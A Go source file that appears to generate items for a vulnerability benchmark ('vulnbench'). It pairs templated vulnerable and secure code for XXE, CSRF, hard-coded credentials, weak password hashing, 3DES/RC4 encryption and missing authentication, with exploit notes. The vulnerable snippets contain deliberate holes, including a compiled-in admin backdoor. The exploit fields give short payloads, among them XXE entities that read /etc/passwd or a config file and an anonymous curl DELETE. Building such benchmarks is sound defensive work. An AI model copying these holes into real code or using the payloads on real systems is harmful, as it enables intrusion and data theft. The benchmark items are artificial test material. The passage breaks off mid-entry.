package appsec

// webAuthGenerators covers XXE, CSRF, hard-coded credentials, password hashing, broken
// algorithms, missing authentication, brute force, session fixation, open redirect, file upload,
// code injection and mass assignment, two languages each. Every snippet is written for vulnbench.
func webAuthGenerators() []Generator {
	var gs []Generator
	gs = append(gs, webAuthXMLAndCSRF()...)
	gs = append(gs, webAuthSecretsAndCrypto()...)
	gs = append(gs, webAuthAuthentication()...)
	gs = append(gs, webAuthRedirectUploadCode()...)
	return gs
}

func webAuthXMLAndCSRF() []Generator {
	return []Generator{
		{
			Archetype: "xml-external-entity", Language: "java", Framework: "jakarta-servlet",
			Levels:   []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath: "src/main/java/com/example/{{.Entities}}/{{.EntityPascal}}ImportServlet.java",
			Vulnerable: `package com.example.{{.Entities}};

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import org.w3c.dom.Document;

@WebServlet("{{.Endpoint}}/import")
public class {{.EntityPascal}}ImportServlet extends HttpServlet {

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        try {
            DocumentBuilder builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();⟪v⟫
            Document doc = builder.parse(req.getInputStream());
            String {{.Field}} = doc.getElementsByTagName("{{.Field}}").item(0).getTextContent();
            String {{.Param}} = doc.getDocumentElement().getAttribute("{{.Param}}");
            resp.setContentType("text/plain;charset=UTF-8");
            resp.getWriter().write("Imported {{.Entity}} " + {{.Field}} + " (" + {{.Param}} + ")");
        } catch (Exception e) {
            resp.sendError(HttpServletResponse.SC_BAD_REQUEST, "invalid {{.Entity}} document");
        }
    }
}
`,
			Secure: `package com.example.{{.Entities}};

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.w3c.dom.Document;

@WebServlet("{{.Endpoint}}/import")
public class {{.EntityPascal}}ImportServlet extends HttpServlet {
    private static final DocumentBuilderFactory FACTORY = hardenedFactory();

    private static DocumentBuilderFactory hardenedFactory() {
        try {
            DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
            f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            f.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);
            f.setXIncludeAware(false);
            f.setExpandEntityReferences(false);
            return f;
        } catch (ParserConfigurationException e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        try {
            DocumentBuilder builder = FACTORY.newDocumentBuilder();
            Document doc = builder.parse(req.getInputStream());
            String {{.Field}} = doc.getElementsByTagName("{{.Field}}").item(0).getTextContent();
            String {{.Param}} = doc.getDocumentElement().getAttribute("{{.Param}}");
            resp.setContentType("text/plain;charset=UTF-8");
            resp.getWriter().write("Imported {{.Entity}} " + {{.Field}} + " (" + {{.Param}} + ")");
        } catch (Exception e) {
            resp.sendError(HttpServletResponse.SC_BAD_REQUEST, "invalid {{.Entity}} document");
        }
    }
}
`,
			Explanation:   "The servlet parses the request body with a default DocumentBuilderFactory, which honours DOCTYPE declarations and resolves external entities; the parsed {{.Field}} text is echoed back, so entity contents leave the server in the response.",
			Exploit:       "POST {{.Endpoint}}/import with <!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><{{.Entity}}><{{.Field}}>&x;</{{.Field}}></{{.Entity}}> returns the file's contents; a SYSTEM URL of http://169.254.169.254/ turns the parser into an SSRF probe.",
			Fix:           "Build documents from a factory that forbids DOCTYPE declarations, enables secure processing and disables XInclude and entity expansion.",
			Remediation:   []string{"Set disallow-doctype-decl on every DocumentBuilderFactory, SAXParserFactory and XMLInputFactory.", "Centralise parser creation in one hardened factory and ban DocumentBuilderFactory.newInstance() elsewhere with a static-analysis rule.", "Prefer JSON for imports where XML is not required."},
			Preconditions: []string{"Network access to the import endpoint.", "The servlet container's JAXP implementation resolves external entities (the default)."},
		},
		{
			Archetype: "xml-external-entity", Language: "php", Framework: "plain-php",
			Levels:   []Difficulty{Beginner, Expert},
			FilePath: "public/{{.Entities}}/feed-import.php",
			Vulnerable: `<?php
declare(strict_types=1);

require __DIR__ . '/../../src/bootstrap.php';

header('Content-Type: application/json');

$xml = (string) file_get_contents('php://input');
$doc = new DOMDocument();
if (!$doc->loadXML($xml, LIBXML_NOENT | LIBXML_DTDLOAD)) {⟪v⟫
    http_response_code(400);
    echo json_encode(['error' => 'invalid {{.Entity}} feed']);
    exit;
}

${{.Entities}} = [];
foreach ($doc->getElementsByTagName('{{.Entity}}') as $node) {
    ${{.Entities}}[] = [
        '{{.Field}}' => $node->getElementsByTagName('{{.Field}}')->item(0)?->textContent,
        '{{.Param}}' => $node->getAttribute('{{.Param}}'),
    ];
}

$repository = new {{.EntityPascal}}Repository($pdo);
$repository->importMany(${{.Entities}});
echo json_encode(['imported' => count(${{.Entities}}), 'items' => ${{.Entities}}]);
`,
			Secure: `<?php
declare(strict_types=1);

require __DIR__ . '/../../src/bootstrap.php';

header('Content-Type: application/json');

$xml = (string) file_get_contents('php://input');
$doc = new DOMDocument();
if (!$doc->loadXML($xml, LIBXML_NONET) || $doc->doctype !== null) {
    http_response_code(400);
    echo json_encode(['error' => 'invalid {{.Entity}} feed']);
    exit;
}

${{.Entities}} = [];
foreach ($doc->getElementsByTagName('{{.Entity}}') as $node) {
    ${{.Entities}}[] = [
        '{{.Field}}' => $node->getElementsByTagName('{{.Field}}')->item(0)?->textContent,
        '{{.Param}}' => $node->getAttribute('{{.Param}}'),
    ];
}

$repository = new {{.EntityPascal}}Repository($pdo);
$repository->importMany(${{.Entities}});
echo json_encode(['imported' => count(${{.Entities}}), 'items' => ${{.Entities}}]);
`,
			Explanation:   "LIBXML_NOENT substitutes entities and LIBXML_DTDLOAD fetches external DTDs, re-enabling the external entity resolution PHP 8 turns off by default; the substituted {{.Field}} values are echoed back in the JSON response.",
			Exploit:       "POST a feed with <!DOCTYPE f [<!ENTITY k SYSTEM \"php://filter/convert.base64-encode/resource=../../src/config.php\">]> and <{{.Field}}>&k;</{{.Field}}>; the response carries the base64 of the configuration file with its database password.",
			Fix:           "Parse without LIBXML_NOENT/LIBXML_DTDLOAD, forbid network access with LIBXML_NONET and reject any document that declares a DOCTYPE.",
			Remediation:   []string{"Never pass LIBXML_NOENT or LIBXML_DTDLOAD for untrusted XML.", "Reject documents with a DOCTYPE.", "Grep the code base for other loadXML/simplexml_load_string calls with these flags."},
			Preconditions: []string{"Network access to the feed import endpoint."},
		},
		{
			Archetype: "cross-site-request-forgery", Language: "ruby", Framework: "rails",
			Levels:   []Difficulty{Beginner, Intermediate},
			FilePath: "app/controllers/{{.Entities}}_controller.rb",
			Vulnerable: `class {{.EntitiesPascal}}Controller < ApplicationController
  skip_before_action :verify_authenticity_token, only: %i[update destroy]⟪v⟫
  before_action :authenticate_user!
  before_action :set_{{.Entity}}

  def update
    if @{{.Entity}}.update({{.Entity}}_params)
      redirect_to @{{.Entity}}, notice: "{{.EntityPascal}} updated."
    else
      render :edit, status: :unprocessable_entity
    end
  end

  def destroy
    @{{.Entity}}.destroy!
    redirect_to {{.Entities}}_path, notice: "{{.EntityPascal}} deleted."
  end

  private

  def set_{{.Entity}}
    @{{.Entity}} = current_user.{{.Entities}}.find(params[:id])
  end

  def {{.Entity}}_params
    params.require(:{{.Entity}}).permit(:{{.Field}}, :{{.Param}})
  end
end
`,
			Secure: `class {{.EntitiesPascal}}Controller < ApplicationController
  protect_from_forgery with: :exception
  before_action :authenticate_user!
  before_action :set_{{.Entity}}

  def update
    if @{{.Entity}}.update({{.Entity}}_params)
      redirect_to @{{.Entity}}, notice: "{{.EntityPascal}} updated."
    else
      render :edit, status: :unprocessable_entity
    end
  end

  def destroy
    @{{.Entity}}.destroy!
    redirect_to {{.Entities}}_path, notice: "{{.EntityPascal}} deleted."
  end

  private

  def set_{{.Entity}}
    @{{.Entity}} = current_user.{{.Entities}}.find(params[:id])
  end

  def {{.Entity}}_params
    params.require(:{{.Entity}}).permit(:{{.Field}}, :{{.Param}})
  end
end
`,
			Explanation:   "The controller authenticates with the Devise session cookie but skips Rails' authenticity-token check for update and destroy, so a form on any other site can drive those actions with the victim's cookie.",
			Exploit:       "The attacker hosts an auto-submitting form that POSTs _method=delete to /{{.Entities}}/42; a signed-in user who opens the page deletes their {{.Entity}} without noticing.",
			Fix:           "Keep the authenticity-token check on every state-changing action (protect_from_forgery with: :exception) and send the token from forms and XHR via csrf_meta_tags.",
			Remediation:   []string{"Remove skip_before_action :verify_authenticity_token from cookie-authenticated controllers.", "Use token authentication, not cookies, for endpoints that genuinely need to skip the check.", "Set the session cookie SameSite=Lax or Strict as defence in depth."},
			Preconditions: []string{"The victim is signed in to the application.", "The victim visits an attacker-controlled page."},
		},
		{
			Archetype: "cross-site-request-forgery", Language: "java", Framework: "spring-boot",
			Levels:   []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath: "src/main/java/com/example/{{.Entities}}/config/{{.EntityPascal}}SecurityConfig.java",
			Vulnerable: `package com.example.{{.Entities}}.config;

import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.web.SecurityFilterChain;

@Configuration
public class {{.EntityPascal}}SecurityConfig {

    @Bean
    SecurityFilterChain {{.Entity}}FilterChain(HttpSecurity http) throws Exception {
        http
            .authorizeHttpRequests(auth -> auth
                .requestMatchers("/login", "/assets/**").permitAll()
                .requestMatchers("{{.Endpoint}}/**").hasRole("{{.Entity}}_MANAGER")
                .anyRequest().authenticated())
            .formLogin(form -> form.loginPage("/login").defaultSuccessUrl("/{{.Entities}}"))
            .logout(Customizer.withDefaults())
            .csrf(csrf -> csrf.disable());⟪v⟫
        return http.build();
    }
}
`,
			Secure: `package com.example.{{.Entities}}.config;

import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.web.SecurityFilterChain;

@Configuration
public class {{.EntityPascal}}SecurityConfig {

    @Bean
    SecurityFilterChain {{.Entity}}FilterChain(HttpSecurity http) throws Exception {
        http
            .authorizeHttpRequests(auth -> auth
                .requestMatchers("/login", "/assets/**").permitAll()
                .requestMatchers("{{.Endpoint}}/**").hasRole("{{.Entity}}_MANAGER")
                .anyRequest().authenticated())
            .formLogin(form -> form.loginPage("/login").defaultSuccessUrl("/{{.Entities}}"))
            .logout(Customizer.withDefaults())
            .csrf(Customizer.withDefaults());
        return http.build();
    }
}
`,
			Explanation:   "The application authenticates browsers with a form-login session cookie, yet CSRF protection is disabled for the whole filter chain, so cross-site requests to {{.Endpoint}} carry the session and are accepted.",
			Exploit:       "A manager opens a page with a hidden form that POSTs to https://{{.Host}}{{.Endpoint}}/7/approve (or a JSON-looking text/plain body); the browser sends the JSESSIONID cookie and the action runs as the manager.",
			Fix:           "Leave Spring Security's CSRF protection on for cookie-authenticated chains so state-changing requests need the synchronizer token rendered into forms.",
			Remediation:   []string{"Only disable CSRF on chains that authenticate with bearer tokens and never with cookies.", "Expose the token to single-page clients with CookieCsrfTokenRepository and send it in a header.", "Use SameSite=Lax session cookies as an additional layer."},
			Preconditions: []string{"The victim has an authenticated session.", "The victim loads attacker-controlled content in the same browser."},
		},
	}
}

func webAuthSecretsAndCrypto() []Generator {
	return []Generator{
		{
			Archetype: "hardcoded-credentials", Language: "csharp", Framework: "aspnet-core",
			Levels:   []Difficulty{Beginner, Intermediate, RealWorldEnterprise},
			FilePath: "src/{{.EntitiesPascal}}.Api/Program.cs",
			Vulnerable: `using Microsoft.EntityFrameworkCore;
using Example.{{.EntitiesPascal}}.Data;

var builder = WebApplication.CreateBuilder(args);

const string ConnectionString =
    "Server=sql.{{.Host}};Database={{.Entities}};User Id=sa;Password=Pr0d#{{.EntityPascal}}2023!;Encrypt=True";⟪v⟫

builder.Services.AddDbContext<{{.EntityPascal}}Context>(options =>
    options.UseSqlServer(ConnectionString));
builder.Services.AddHttpClient("partner", client =>
{
    client.BaseAddress = new Uri("https://partner.{{.Host}}/");
    client.DefaultRequestHeaders.Add("X-Api-Key", "a7f3c9e1-{{.Entity}}-5d20b8e64c91");⟪v⟫
});

var app = builder.Build();

app.MapGet("{{.Endpoint}}", async ({{.EntityPascal}}Context db) =>
    await db.{{.EntitiesPascal}}.Where(x => x.{{.ParamPascal}} != null).Take(100).ToListAsync());

app.Run();
`,
			Secure: `using Microsoft.EntityFrameworkCore;
using Example.{{.EntitiesPascal}}.Data;

var builder = WebApplication.CreateBuilder(args);

var connectionString = builder.Configuration.GetConnectionString("{{.EntitiesPascal}}")
    ?? throw new InvalidOperationException("Connection string '{{.EntitiesPascal}}' is not configured.");

builder.Services.AddDbContext<{{.EntityPascal}}Context>(options =>
    options.UseSqlServer(connectionString));
builder.Services.AddHttpClient("partner", client =>
{
    client.BaseAddress = new Uri("https://partner.{{.Host}}/");
    client.DefaultRequestHeaders.Add("X-Api-Key", builder.Configuration["Partner:ApiKey"]
        ?? throw new InvalidOperationException("Partner:ApiKey is not configured."));
});

var app = builder.Build();

app.MapGet("{{.Endpoint}}", async ({{.EntityPascal}}Context db) =>
    await db.{{.EntitiesPascal}}.Where(x => x.{{.ParamPascal}} != null).Take(100).ToListAsync());

app.Run();
`,
			Explanation:   "The SQL Server sa password and the partner API key are string literals in Program.cs, so everyone with the repository, a build artefact or a decompiled DLL holds production credentials, and rotating them needs a redeploy.",
			Exploit:       "An attacker who obtains the source or runs a decompiler on the published DLL reads Password=... and connects to sql.{{.Host}} as sa, or calls partner.{{.Host}} with the API key.",
			Fix:           "Read the connection string and the API key from configuration (user secrets in development, environment or a vault provider in production) and fail fast when they are missing.",
			Remediation:   []string{"Rotate the exposed sa password and API key now.", "Load secrets through IConfiguration backed by Key Vault or environment variables.", "Use a least-privilege database login instead of sa.", "Add secret scanning to the CI pipeline and purge the literals from history."},
			Preconditions: []string{"Read access to the source repository, a container image or the compiled assemblies.", "Network reachability of the database or partner API."},
		},
		{
			Archetype: "hardcoded-credentials", Language: "c", Framework: "libc",
			Levels:   []Difficulty{Intermediate, Expert},
			FilePath: "src/{{.Entity}}_login.c",
			Vulnerable: `#include <stdbool.h>
#include <stddef.h>
#include <string.h>

#include "{{.Entity}}_auth.h"

static const char maint_user[] = "{{.Entity}}_maint";⟪v⟫
static const char maint_pass[] = "Tr4ns!t-{{.Param}}-{{.Field}}-77";⟪v⟫

bool {{.Entity}}_login(const char *user, const char *password, struct {{.Entity}}_session *out)
{
    if (user == NULL || password == NULL || out == NULL) {
        return false;
    }
    if (strcmp(user, maint_user) == 0 && strcmp(password, maint_pass) == 0) {⟪v⟫
        out->role = ROLE_ADMIN;⟪v⟫
        return true;
    }
    if (!{{.Entity}}_verify_password(user, password)) {
        return false;
    }
    out->role = {{.Entity}}_role_of(user);
    return true;
}
`,
			Secure: `#include <stdbool.h>
#include <stddef.h>
#include <string.h>

#include "{{.Entity}}_auth.h"

bool {{.Entity}}_login(const char *user, const char *password, struct {{.Entity}}_session *out)
{
    if (user == NULL || password == NULL || out == NULL) {
        return false;
    }
    if (!{{.Entity}}_verify_password(user, password)) {
        return false;
    }
    out->role = {{.Entity}}_role_of(user);
    return true;
}
`,
			Explanation:   "A maintenance account with a fixed password is compiled into the login routine and grants the admin role without touching the user store; the literal is visible with strings(1) on every shipped binary and cannot be rotated per installation.",
			Exploit:       "Running strings on the firmware or package reveals {{.Entity}}_maint and its password; the attacker logs in to any deployed instance as administrator.",
			Fix:           "Remove the built-in account: maintenance users live in the same credential store as everyone else, with per-installation secrets and hashed passwords.",
			Remediation:   []string{"Delete compiled-in credentials and ship a first-boot provisioning step instead.", "Treat the leaked password as public and notify customers to update.", "Scan release binaries for embedded secrets before publishing."},
			Preconditions: []string{"Access to a copy of the binary (download, firmware image or installed package).", "Network access to a deployed instance's login."},
		},
		{
			Archetype: "weak-password-hashing", Language: "php", Framework: "plain-php",
			Levels:   []Difficulty{Beginner, Intermediate},
			FilePath: "src/{{.EntityPascal}}UserStore.php",
			Vulnerable: `<?php
declare(strict_types=1);

final class {{.EntityPascal}}UserStore
{
    public function __construct(private PDO $pdo)
    {
    }

    public function register(string $email, string $password): int
    {
        $hash = md5($password);⟪v⟫
        $stmt = $this->pdo->prepare('INSERT INTO {{.Entity}}_users (email, password_hash) VALUES (?, ?)');
        $stmt->execute([$email, $hash]);
        return (int) $this->pdo->lastInsertId();
    }

    public function verify(string $email, string $password): bool
    {
        $stmt = $this->pdo->prepare('SELECT password_hash FROM {{.Entity}}_users WHERE email = ?');
        $stmt->execute([$email]);
        $stored = $stmt->fetchColumn();
        return is_string($stored) && $stored === md5($password);⟪v⟫
    }
}
`,
			Secure: `<?php
declare(strict_types=1);

final class {{.EntityPascal}}UserStore
{
    public function __construct(private PDO $pdo)
    {
    }

    public function register(string $email, string $password): int
    {
        $hash = password_hash($password, PASSWORD_ARGON2ID);
        $stmt = $this->pdo->prepare('INSERT INTO {{.Entity}}_users (email, password_hash) VALUES (?, ?)');
        $stmt->execute([$email, $hash]);
        return (int) $this->pdo->lastInsertId();
    }

    public function verify(string $email, string $password): bool
    {
        $stmt = $this->pdo->prepare('SELECT password_hash FROM {{.Entity}}_users WHERE email = ?');
        $stmt->execute([$email]);
        $stored = $stmt->fetchColumn();
        return is_string($stored) && password_verify($password, $stored);
    }
}
`,
			Explanation:   "Passwords are stored as unsalted MD5, a fast hash: identical passwords share a hash, rainbow tables reverse common ones instantly and a GPU tests billions of guesses per second against a leaked {{.Entity}}_users table.",
			Exploit:       "After dumping {{.Entity}}_users (SQL injection, a backup, a replica), the attacker runs hashcat -m 0 over the password_hash column and recovers most passwords within hours, then reuses them on other sites.",
			Fix:           "Hash with password_hash using Argon2id (or bcrypt) and check with password_verify, which salts per user and is deliberately slow.",
			Remediation:   []string{"Switch to password_hash/password_verify.", "Migrate existing MD5 hashes by rehashing on next login or wrapping them (argon2(md5)) immediately.", "Call password_needs_rehash to upgrade cost parameters over time."},
			Preconditions: []string{"The attacker obtains a copy of the password hashes."},
		},
		{
			Archetype: "weak-password-hashing", Language: "csharp", Framework: "aspnet-core",
			Levels:   []Difficulty{Advanced, Expert},
			FilePath: "src/{{.EntitiesPascal}}.Identity/{{.EntityPascal}}PasswordService.cs",
			Vulnerable: `using System;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Extensions.Configuration;

namespace Example.{{.EntitiesPascal}}.Identity;

public sealed class {{.EntityPascal}}PasswordService
{
    private readonly byte[] _pepper;

    public {{.EntityPascal}}PasswordService(IConfiguration config)
    {
        _pepper = Convert.FromBase64String(config["Auth:Pepper"] ?? throw new InvalidOperationException("Auth:Pepper missing"));
    }

    public string Hash(string password, byte[] salt)
    {
        var input = salt.Concat(_pepper).Concat(Encoding.UTF8.GetBytes(password)).ToArray();⟪v⟫
        return Convert.ToBase64String(SHA256.HashData(input));⟪v⟫
    }

    public bool Verify(string password, byte[] salt, string stored)
    {
        var actual = Convert.FromBase64String(Hash(password, salt));
        return CryptographicOperations.FixedTimeEquals(actual, Convert.FromBase64String(stored));
    }
}
`,
			Secure: `using System;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Extensions.Configuration;

namespace Example.{{.EntitiesPascal}}.Identity;

public sealed class {{.EntityPascal}}PasswordService
{
    private const int Iterations = 600_000;
    private readonly byte[] _pepper;

    public {{.EntityPascal}}PasswordService(IConfiguration config)
    {
        _pepper = Convert.FromBase64String(config["Auth:Pepper"] ?? throw new InvalidOperationException("Auth:Pepper missing"));
    }

    public string Hash(string password, byte[] salt)
    {
        var input = _pepper.Concat(Encoding.UTF8.GetBytes(password)).ToArray();
        return Convert.ToBase64String(Rfc2898DeriveBytes.Pbkdf2(input, salt, Iterations, HashAlgorithmName.SHA256, 32));
    }

    public bool Verify(string password, byte[] salt, string stored)
    {
        var actual = Convert.FromBase64String(Hash(password, salt));
        return CryptographicOperations.FixedTimeEquals(actual, Convert.FromBase64String(stored));
    }
}
`,
			Explanation:   "Despite a per-user salt, a pepper and a constant-time comparison, each password is protected by a single SHA-256 invocation; the hash is fast, so an attacker holding the table and the pepper brute-forces it at GPU speed.",
			Exploit:       "With a database dump and the Auth:Pepper value from the same compromised host, hashcat in SHA-256(salt.pepper.pass) mode recovers weak and medium passwords of {{.Entity}} users in hours.",
			Fix:           "Derive the stored value with a slow, salted KDF (PBKDF2-HMAC-SHA256 with 600,000 iterations here, or Argon2id/ASP.NET Core Identity's PasswordHasher).",
			Remediation:   []string{"Use PBKDF2 with a high iteration count, bcrypt or Argon2id for passwords.", "Store the algorithm and cost with each hash so it can be upgraded on login.", "Keep the pepper in a separate secret store from the database."},
			Preconditions: []string{"The attacker obtains the password table (and, for full speed, the pepper)."},
		},
		{
			Archetype: "broken-crypto-algorithm", Language: "java", Framework: "jca",
			Levels:   []Difficulty{Beginner, Intermediate, Advanced},
			FilePath: "src/main/java/com/example/{{.Entities}}/crypto/{{.EntityPascal}}FieldCipher.java",
			Vulnerable: `package com.example.{{.Entities}}.crypto;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import javax.crypto.spec.SecretKeySpec;

public final class {{.EntityPascal}}FieldCipher {
    private final SecretKey key;

    public {{.EntityPascal}}FieldCipher(byte[] keyBytes) {
        this.key = new SecretKeySpec(keyBytes, "DESede");⟪v⟫
    }

    public String encrypt(String {{.Field}}) throws Exception {
        Cipher cipher = Cipher.getInstance("DESede/ECB/PKCS5Padding");⟪v⟫
        cipher.init(Cipher.ENCRYPT_MODE, key);⟪v⟫
        byte[] out = cipher.doFinal({{.Field}}.getBytes(StandardCharsets.UTF_8));
        return Base64.getEncoder().encodeToString(out);
    }

    public String decrypt(String encoded) throws Exception {
        Cipher cipher = Cipher.getInstance("DESede/ECB/PKCS5Padding");⟪v⟫
        cipher.init(Cipher.DECRYPT_MODE, key);⟪v⟫
        byte[] out = cipher.doFinal(Base64.getDecoder().decode(encoded));
        return new String(out, StandardCharsets.UTF_8);
    }
}
`,
			Secure: `package com.example.{{.Entities}}.crypto;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.Base64;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.SecretKeySpec;

public final class {{.EntityPascal}}FieldCipher {
    private static final int IV_LEN = 12;
    private static final SecureRandom RANDOM = new SecureRandom();
    private final SecretKey key;

    public {{.EntityPascal}}FieldCipher(byte[] keyBytes) {
        if (keyBytes.length != 32) {
            throw new IllegalArgumentException("AES-256 key required");
        }
        this.key = new SecretKeySpec(keyBytes, "AES");
    }

    public String encrypt(String {{.Field}}) throws Exception {
        byte[] iv = new byte[IV_LEN];
        RANDOM.nextBytes(iv);
        Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
        cipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));
        byte[] ct = cipher.doFinal({{.Field}}.getBytes(StandardCharsets.UTF_8));
        return Base64.getEncoder().encodeToString(ByteBuffer.allocate(IV_LEN + ct.length).put(iv).put(ct).array());
    }

    public String decrypt(String encoded) throws Exception {
        ByteBuffer in = ByteBuffer.wrap(Base64.getDecoder().decode(encoded));
        byte[] iv = new byte[IV_LEN];
        in.get(iv);
        byte[] ct = new byte[in.remaining()];
        in.get(ct);
        Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
        cipher.init(Cipher.DECRYPT_MODE, key, new GCMParameterSpec(128, iv));
        return new String(cipher.doFinal(ct), StandardCharsets.UTF_8);
    }
}
`,
			Explanation:   "{{.EntityPascal}} {{.Field}} values are encrypted with Triple DES in ECB mode: a 64-bit block cipher deprecated by NIST, no IV so equal plaintexts give equal ciphertexts, and no integrity, so stored values can be compared, spliced or altered undetected.",
			Exploit:       "An attacker with read access to the encrypted column groups identical ciphertext blocks to infer shared {{.Field}} values, and swaps 8-byte blocks between rows to forge values that decrypt cleanly.",
			Fix:           "Use AES-256-GCM with a fresh 96-bit random IV per message, stored with the ciphertext, so encryption is randomised and authenticated.",
			Remediation:   []string{"Replace DES/3DES/ECB with an AEAD (AES-GCM or ChaCha20-Poly1305).", "Re-encrypt existing data in a migration job.", "Keep the key in a KMS and rotate it with key versioning."},
			Preconditions: []string{"Read access to stored ciphertexts (database dump, backup or log)."},
		},
		{
			Archetype: "broken-crypto-algorithm", Language: "c", Framework: "openssl",
			Levels:   []Difficulty{Advanced, Expert},
			FilePath: "src/{{.Entity}}_vault.c",
			Vulnerable: `#include <openssl/evp.h>

#include "{{.Entity}}_vault.h"

int {{.Entity}}_seal_{{.Field}}(const unsigned char key[16], const unsigned char *in, int in_len,
                     unsigned char *out, int *out_len)
{
    EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
    int len = 0, total = 0, rc = -1;

    if (ctx == NULL) {
        return -1;
    }
    if (EVP_EncryptInit_ex(ctx, EVP_rc4(), NULL, key, NULL) == 1 &&⟪v⟫
        EVP_EncryptUpdate(ctx, out, &len, in, in_len) == 1) {
        total = len;
        if (EVP_EncryptFinal_ex(ctx, out + total, &len) == 1) {
            *out_len = total + len;
            rc = 0;
        }
    }
    EVP_CIPHER_CTX_free(ctx);
    return rc;
}
`,
			Secure: `#include <openssl/evp.h>
#include <openssl/rand.h>

#include "{{.Entity}}_vault.h"

#define IV_LEN 12
#define TAG_LEN 16

int {{.Entity}}_seal_{{.Field}}(const unsigned char key[32], const unsigned char *in, int in_len,
                     unsigned char *out, int *out_len)
{
    EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
    int len = 0, total = 0, rc = -1;

    if (ctx == NULL) {
        return -1;
    }
    if (RAND_bytes(out, IV_LEN) == 1 &&
        EVP_EncryptInit_ex(ctx, EVP_aes_256_gcm(), NULL, key, out) == 1 &&
        EVP_EncryptUpdate(ctx, out + IV_LEN, &len, in, in_len) == 1) {
        total = IV_LEN + len;
        if (EVP_EncryptFinal_ex(ctx, out + total, &len) == 1 &&
            EVP_CIPHER_CTX_ctrl(ctx, EVP_CTRL_GCM_GET_TAG, TAG_LEN, out + total + len) == 1) {
            *out_len = total + len + TAG_LEN;
            rc = 0;
        }
    }
    EVP_CIPHER_CTX_free(ctx);
    return rc;
}
`,
			Explanation:   "Each {{.Entity}} {{.Field}} is sealed with RC4 under the same long-term key and no nonce, so every record is XORed with the identical keystream; RC4 also has exploitable keystream biases and provides no integrity.",
			Exploit:       "XORing two sealed records cancels the keystream and leaves plaintext XOR plaintext; one known {{.Field}} (the attacker's own record) reveals the keystream and decrypts every other record of the same length, and bits can be flipped at will.",
			Fix:           "Seal with AES-256-GCM using a fresh random 96-bit IV per record, emitting IV || ciphertext || tag, and verify the tag on opening.",
			Remediation:   []string{"Remove RC4, DES and ECB ciphers from the code base (they need OpenSSL 3's legacy provider anyway).", "Use an AEAD with unique nonces per message.", "Re-encrypt existing records and rotate the key."},
			Preconditions: []string{"Access to several sealed records, and ideally one known plaintext (the attacker's own data)."},
		},
	}
}

func webAuthAuthentication() []Generator {
	return []Generator{
		{
			Archetype: "missing-authentication", Language: "typescript", Framework: "express",
			Levels:   []Difficulty{Beginner, Intermediate},
			FilePath: "src/routes/{{.Entity}}-admin.ts",
			Vulnerable: `import { Router, Request, Response } from "express";
import { requireAuth, requireRole } from "../middleware/auth";
import { {{.EntityPascal}}Service } from "../services/{{.Entity}}-service";

export function {{.Entity}}AdminRouter(service: {{.EntityPascal}}Service): Router {
  const router = Router();

  router.get("{{.Endpoint}}", requireAuth, async (req: Request, res: Response) => {
    res.json(await service.list(String(req.query.{{.Param}} ?? "")));
  });

  router.post("{{.Endpoint}}/export", async (req: Request, res: Response) => {⟪v⟫
    const job = await service.exportAll(String(req.body.{{.Param}} ?? ""));
    res.status(202).json({ jobId: job.id });
  });

  router.delete("{{.Endpoint}}/:id", async (req: Request, res: Response) => {⟪v⟫
    await service.remove(req.params.id);
    res.status(204).end();
  });

  return router;
}
`,
			Secure: `import { Router, Request, Response } from "express";
import { requireAuth, requireRole } from "../middleware/auth";
import { {{.EntityPascal}}Service } from "../services/{{.Entity}}-service";

export function {{.Entity}}AdminRouter(service: {{.EntityPascal}}Service): Router {
  const router = Router();

  router.get("{{.Endpoint}}", requireAuth, async (req: Request, res: Response) => {
    res.json(await service.list(String(req.query.{{.Param}} ?? "")));
  });

  router.post("{{.Endpoint}}/export", requireAuth, requireRole("admin"), async (req: Request, res: Response) => {
    const job = await service.exportAll(String(req.body.{{.Param}} ?? ""));
    res.status(202).json({ jobId: job.id });
  });

  router.delete("{{.Endpoint}}/:id", requireAuth, requireRole("admin"), async (req: Request, res: Response) => {
    await service.remove(req.params.id);
    res.status(204).end();
  });

  return router;
}
`,
			Explanation:   "Only the list route runs requireAuth; the bulk export and the delete routes of the {{.Entity}} admin router have no authentication middleware, so anonymous requests reach them.",
			Exploit:       "curl -X DELETE https://{{.Host}}{{.Endpoint}}/1 (and a loop over ids) deletes {{.Entities}} without any credentials; POST {{.Endpoint}}/export starts a full data export anonymously.",
